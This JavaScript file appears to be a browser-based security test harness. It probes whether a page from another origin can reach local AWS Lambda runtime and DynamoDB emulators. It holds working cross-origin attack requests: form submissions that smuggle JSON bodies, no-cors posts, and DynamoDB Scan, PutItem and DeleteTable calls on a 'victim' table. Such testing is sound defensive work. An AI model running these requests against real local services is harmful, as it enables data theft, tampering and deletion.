// What a page of another origin tries on local servers. browser.py serves it with its configuration; what came of each
// attempt goes back there. `readable`: the page saw an answer.
'use strict';

const config = JSON.parse(document.getElementById('config').textContent);
const patience = 2000;  // milliseconds
const functions = '/2015-03-31/functions/good/invocations';
const runtime = '/2018-06-01/runtime/';
const response = runtime + 'invocation/' + config.invocation + '/response';
const paths = ['/', functions, response, runtime + 'init/error'];
const signature =
    'AWS4-HMAC-SHA256 Credential=test/20261120/us-west-2/dynamodb/aws4_request, SignedHeaders=host, Signature=00';

const operations = {
    ListTables: {},
    Scan: {TableName: 'victim'},
    PutItem: {TableName: 'victim', Item: {id: {S: 'planted'}}},
    DeleteTable: {TableName: 'victim'},
};

const text = (how) => JSON.stringify({attack: how, TableName: 'victim', Item: {id: {S: 'planted'}}});

async function read(answer) {
    if (answer.type.startsWith('opaque')) return {readable: false, detail: answer.type};
    return {readable: true, status: answer.status, detail: (await answer.text()).slice(0, 200)};
}

const get = (url, options = {}) => fetch(url, {signal: AbortSignal.timeout(patience), ...options}).then(read);
const post = (url, body, options = {}) => get(url, {method: 'POST', body, ...options});

function database(base, operation, type = 'application/x-amz-json-1.0') {
    const headers = {'Content-Type': type, 'X-Amz-Target': 'DynamoDB_20120810.' + operation, 'Authorization': signature,
                     'X-Amz-Date': '20261120T120000Z'};
    return post(base + '/', JSON.stringify(operations[operation]), {headers});
}

// Until one of the events of `of`; those named in `good` mean that the page learnt something.
function heard(of, good, bad) {
    return new Promise((done) => {
        const end = (readable, detail) => done({readable, status: readable ? 200 : 0, detail});
        good.forEach((name) => of.addEventListener(name, () => end(true, name)));
        bad.forEach((name) => of.addEventListener(name, () => end(false, name)));
        setTimeout(() => end(false, 'nothing'), patience);
    });
}

function element(kind, properties, good = ['load'], bad = ['error']) {
    const made = Object.assign(document.createElement(kind), properties);
    const result = heard(made, good, bad);
    document.body.append(made);
    return result;
}

function request(method, url, body) {
    const one = new XMLHttpRequest();
    one.open(method, url);
    one.timeout = patience;
    one.setRequestHeader('X-Custom', 'x');
    one.send(body);
    return new Promise((done) => one.onloadend =
        () => done({readable: one.status !== 0, status: one.status, detail: one.responseText.slice(0, 200)}));
}

// What a form's answer says cannot be read; it is sent all the same.
function submit(url, enctype) {
    const frame = Object.assign(document.createElement('iframe'), {name: 'frame' + Math.random()});
    const form = Object.assign(document.createElement('form'), {method: 'POST', action: url, target: frame.name, enctype});
    form.append(Object.assign(document.createElement('input'), {name: '{"attack":"form","TableName":"victim","a":"', value: '"}'}));
    document.body.append(frame, form);
    const result = heard(frame, [], ['load']);
    form.submit();
    return result;
}

function attempts(base) {
    const all = {
        'open': () => get(base + '/open'),
        'open with a header': () => get(base + '/open', {headers: {'X-Custom': 'x'}}),
        'GET': () => get(base + '/'),
        'GET with credentials': () => get(base + '/', {credentials: 'include'}),
        'HEAD': () => get(base + '/', {method: 'HEAD'}),
        'XHR PUT': () => request('PUT', base + '/', 'x'),
        'XHR DELETE': () => request('DELETE', base + '/'),
        'XHR invoke': () => request('POST', base + functions, text('xhr')),
        'invoke': () => post(base + functions, text('cors'), {headers: {'Content-Type': 'application/json'}}),
        'no-cors GET': () => get(base + '/', {mode: 'no-cors'}),
        'no-cors next': () => get(base + runtime + 'invocation/next', {mode: 'no-cors'}),
        'next': () => get(base + runtime + 'invocation/next'),
        'img': () => element('img', {src: base + '/'}),
        'script': () => element('script', {src: base + '/'}),
        'img next': () => element('img', {src: base + runtime + 'invocation/next'}),
        'link': () => element('link', {rel: 'stylesheet', href: base + '/'}),
        'iframe invoke': () => element('iframe', {src: base + functions}, [], ['load']),
        'EventSource': () => heard(new EventSource(base + '/'), ['open', 'message'], ['error']),
        'WebSocket': () => heard(new WebSocket((base || location.origin).replace('http', 'ws') + '/'), ['open'], ['error']),
    };
    for (const path of paths) {
        all['POST text ' + path] = () => post(base + path, text('text'));
        all['no-cors POST ' + path] = () => post(base + path, text('no-cors'), {mode: 'no-cors'});
        all['beacon ' + path] = async () => ({readable: false, detail: navigator.sendBeacon(base + path, text('beacon'))});
        for (const enctype of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded'])
            all['form ' + enctype + ' ' + path] = () => submit(base + path, enctype);
    }
    for (const operation of Object.keys(operations)) {
        all['database ' + operation] = () => database(base, operation);
        all['database as text ' + operation] = () => database(base, operation, 'text/plain');
        all['database without preflight ' + operation] =
            () => post(base + '/?X-Amz-Target=DynamoDB_20120810.' + operation, JSON.stringify(operations[operation]), {mode: 'no-cors'});
    }
    return all;
}

async function attack(target) {
    const results = [];
    for (const [attempt, act] of Object.entries(attempts(target.base))) {
        const done = await act().catch((refused) => ({readable: false, detail: String(refused)}));
        results.push({page: config.page, port: target.port, attempt, status: 0, ...done});
    }
    return results;
}

Promise.all(config.targets.map(attack)).then(
    (results) => fetch(config.results, {method: 'POST', mode: 'no-cors', body: JSON.stringify(results.flat())}));
